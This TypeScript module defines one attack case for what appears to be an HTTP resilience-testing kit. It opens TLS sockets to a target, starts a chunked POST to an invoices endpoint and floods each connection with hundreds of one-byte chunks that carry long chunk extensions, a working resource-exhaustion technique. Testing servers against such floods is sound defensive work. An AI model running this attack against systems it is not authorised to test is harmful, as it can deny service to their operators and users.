import type { Attack } from '../kit/attack.js';
import { head } from '../kit/target.js';

export const attack: Attack = {
  name: 'bodies of chunks of one byte with long extensions',
  async run(target) {
    const begin = head('POST /api/v1/invoices', 'Transfer-Encoding: chunked');
    const chunks = `1;${'x'.repeat(200)}\r\n \r\n`.repeat(500);
    await target.repeat(10, async () => {
      const socket = await target.tls();
      socket?.resume().write(begin);
      await target.flood(socket, chunks);
    });
  },
};
